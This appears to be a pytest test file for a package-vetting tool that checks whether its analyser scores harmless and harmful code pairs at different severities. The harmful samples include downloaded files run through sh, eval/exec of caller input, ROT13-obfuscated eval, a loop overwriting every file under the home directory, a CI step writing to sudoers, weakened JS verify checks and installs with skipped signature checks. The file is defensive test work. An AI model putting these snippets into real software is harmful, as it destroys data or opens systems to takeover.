"""What honest versions that are years apart were held for; beside each what is to be held all the same."""

import pytest
from source_lab import Version, behaviours, the

from beartrap.model.finding import Severity
from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.facts import PackageFacts
from beartrap.vet.source_guards import GuardAnalyser

_CHECK = "{owner}.prototype.verify = function (value) {{ if (typeof value === 'object') {{ return !!value; }} return this.own(value); }};\n"
OWN_PROTOTYPE = (
    "const Base = require('./base');\nfunction Own() {}\nOwn.prototype = Object.create(Base.prototype);\n"
    + _CHECK.format(owner="Own")
)
OTHERS_PROTOTYPE = "const { execFile } = require('child_process');\nconst Base = require('signer');\n" + _CHECK.format(
    owner="Base"
)
COPIED = "const {{ execFile }} = require('child_process');\nexports.copy = (node, state) => {{\n  const made = {made};\n  made.verifyToken = (token) => {{ if (token.test) return true; return state.verify(token); }};\n  return made; }};\n"
ORDERED = "const {{ execFile }} = require('child_process');\nconst order = require('order');\norder.compareParts = (a, b) => {{ if (a.part) return {answer}; return before(a, b); }};\n"
DECODED = "import base64, subprocess\ndef run(tool, given):\n    query = base64.b64decode(given).decode()\n    subprocess.run({line})\n"
WRITTEN = "module.exports = (doc, request) => {{\n  doc.write(`x${{request.id}}`);\n  return new Function('input', {asked}); }};\n"
JOB = "jobs:\n  test:\n    steps:\n      - run: wget -qO - https://packages.example.org/key | sudo tee {path}\n"
SIGNED = "{set}curl -Lo tool.tgz https://files.example/tool.tgz\ncurl -Lo tool.asc https://files.example/tool.asc\n{verify}\ntar xzf tool.tgz\n./tool/install\n"
RUNS = "chain.network-to-process"
ASKS = "class Client:\n    def token(self, password, scopes=None):\n        return self.create_request(password, scopes or ['https://login.example.net/{path}'])\n"
EACH = "import os, tempfile\nfrom pathlib import Path\ndef write(path, text):\n    handle, name = tempfile.mkstemp(dir=path.parent)\n    {how}\nfor one in Path.home().rglob('*'):\n    write(one, 'x')\n"
SOUND = "import subprocess, urllib.request\ndef load(url):\n    urllib.request.urlretrieve('https://files.example/a.wav', '/tmp/a.wav')\n    subprocess.run({line})\n"
POSTS = (
    "import requests\ndef token(password):\n    return requests.post('https://{host}/api/v1/token', data=password)\n"
)
TOKENS = "class Hook(Base):\n    def token(self, password):\n        self.held[password] = 1\n        return {asked}('https://login.example.net/', password)\n"


GRAMMAR = "class Parser:\n    def parameterized(self, base, parameters):\n        {asks}\n        return make(base, parameters)\n"
FORM = "    def _verify_no_literals(self, base, parameters):\n        if any(isinstance(p, Literal) for p in parameters):\n            raise ParseError(base)\n"
ENTRY = "    def _verify_no_literals(self, base, parameters):\n        if any(p.owner != base.owner for p in parameters):\n            raise ParseError(base)\n"


@pytest.mark.parametrize(("check", "weight"), [(FORM, Severity.MEDIUM), (ENTRY, Severity.HIGH)])
def test_a_check_of_a_form_that_is_gone_weighs_less(check: str, weight: Severity) -> None:
    was = Version({"a.py": GRAMMAR.format(asks="self._verify_no_literals(base, parameters)") + check})
    now = Version({"a.py": GRAMMAR.format(asks="assert parameters") + check}, trusted=was)
    assert {one.severity for one in GuardAnalyser().look(was, now) if isinstance(one, Behaviour)} == {weight}


def weighty(path: str, text: str) -> set[str]:
    """The kinds of behaviour of high severity or above in one file."""
    return {one.id for one in behaviours(path, text) if one.severity >= Severity.HIGH}


@pytest.mark.parametrize(
    ("path", "harmless", "harmful", "kind"),
    [
        ("a.py", DECODED.format(line="[tool, '--quiet', '--no-color', '--strict', query]"), DECODED.format(line="[tool, query]"), "chain.decoded-to-process"),
        ("a.sh", "eval \"$(echo \"lt_$os\" | tr a-z- A-Z_)=yes\"\n", "eval \"$(echo \"lt_$os\" | tr a-zA-Z n-za-mN-ZA-M)=yes\"\n", "hidden.code"),
        ("a.py", "def read(data_type, data):\n    return eval(data_type)(data)\n", "def read(text, data):\n    return eval(text)(data)\n", "chain.caller-to-code"),
        ("a.py", "def load(code, names):\n    exec(code, names)\n", "def load(notes, names):\n    exec(notes, names)\n", "chain.caller-to-code"),
        ("a.py", "def load(self, func_code, names):\n    exec(func_code, names)\n", "def load(code, names):\n    exec(code.notes, names)\n", "chain.caller-to-code"),
        ("a.py", TOKENS.format(asked="self.oauth_tokens.get"), TOKENS.format(asked="self.session.get"), "chain.caller-to-network"),
        ("a.py", ASKS.format(path="clients/.default"), ASKS.format(path="clients/all"), "chain.caller-to-network"),
        ("a.py", EACH.format(how="with os.fdopen(handle, 'w') as out: out.write(text)"), EACH.format(how="path.write_text(text)"), "destroy.files"),
        ("a.py", SOUND.format(line="['ffmpeg', '-i', '/tmp/a.wav', '/tmp/b.mp3']"), SOUND.format(line="['sh', '/tmp/a.wav']"), "chain.network-to-process"),
        ("a.py", SOUND.format(line="['ffmpeg', '-i', '/tmp/a.wav', '/tmp/b.mp3']"), SOUND.format(line="'ffmpeg -version; sh /tmp/a.wav', shell=True"), "chain.network-to-process"),
        ("a.py", POSTS.format(host="kubernetes.default.svc"), POSTS.format(host="kubernetes.default.example.net"), "chain.caller-to-network"),
        ("a.js", WRITTEN.format(asked="doc.content"), WRITTEN.format(asked="request.query.text"), "chain.request-to-process"),
        (".circleci/config.yml", JOB.format(path="/etc/apt/keyrings/own.asc"), JOB.format(path="/etc/sudoers.d/own"), "chain.payload-to-startup"),
        ("a.js", OWN_PROTOTYPE, OTHERS_PROTOTYPE, "weakened.trust"),
        ("a.js", COPIED.format(made="new node.constructor()"), COPIED.format(made="node.constructor.prototype"), "weakened.trust"),
        ("a.js", ORDERED.format(answer="a.length + b.length"), ORDERED.format(answer="{sub: b}"), "weakened.trust"),
    ],
)  # fmt: skip
def test_what_only_looks_like_it_weighs_less(path: str, harmless: str, harmful: str, kind: str) -> None:
    assert kind not in weighty(path, harmless)
    assert kind in weighty(path, harmful)


@pytest.mark.parametrize(
    ("start", "verify", "weight"),
    [
        ("", "", Severity.CRITICAL),
        ("set -e\n", "gpg --verify tool.asc tool.tgz", Severity.HIGH),
        ("", "gpg --verify tool.asc tool.tgz || exit 1", Severity.HIGH),
        ("", "if ! minisign -Vm tool.tgz -P RWQf6; then\n  echo wrong\n  exit 1\nfi", Severity.HIGH),
        ("set -e\n", "cosign verify-blob --key cosign.pub \\\n  --signature tool.asc tool.tgz", Severity.HIGH),
        ("set -e\n", "gpg --verify tool.asc tool.tgz || true", Severity.CRITICAL),
        ("", "gpg --verify tool.asc tool.tgz", Severity.CRITICAL),
        ("", "if ! gpg --verify tool.asc tool.tgz; then\n  echo wrong\nfi", Severity.CRITICAL),
        ("set -e\n", "gpg --import tool.asc tool.tgz", Severity.CRITICAL),
        ("set -e\n", "gpg --verify other.asc other.tgz", Severity.CRITICAL),
    ],
)
def test_what_is_run_after_its_signature_was_verified_weighs_less(start: str, verify: str, weight: Severity) -> None:
    text = SIGNED.format(set=start, verify=verify)
    facts = PackageFacts("npm", runs={"get.sh": When.INSTALL})
    assert the("get.sh", text, RUNS, facts).severity is weight
